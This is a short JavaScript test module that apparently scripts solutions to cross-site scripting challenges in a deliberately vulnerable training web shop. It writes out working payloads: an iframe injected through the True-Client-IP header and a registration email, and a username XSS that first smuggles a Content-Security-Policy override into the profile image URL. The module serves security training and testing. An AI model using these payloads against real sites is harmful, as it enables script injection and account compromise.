import { iframePayload, register, registers, savesLoginAddress } from '../features/accounts.js'
import { browseAsJim, tokenOfJim } from '../features/customers.js'
import { renames } from '../features/profile.js'
import { proof } from '../proof.js'

export const httpHeaderXssChallenge = proof({
  async attack(me) {
    const headers = { 'True-Client-IP': iframePayload }
    await me.get('/rest/saveLoginIp', { token: await tokenOfJim(me), headers })
  },
  honest: savesLoginAddress,
})

export const persistedXssUserChallenge = proof({ attack: register({ email: iframePayload }), honest: registers })

export const usernameXssChallenge = proof({
  async attack(me) {
    const jim = await browseAsJim(me)
    const imageUrl = "https://a.png; script-src 'unsafe-inline' 'self' 'unsafe-eval'"
    await jim.send('/profile/image/url', new URLSearchParams({ imageUrl }))
    await jim.send('/profile', new URLSearchParams({ username: '<<a|ascript>alert(`xss`)</script>' }))
    await jim.get('/profile')
  },
  honest: renames,
})
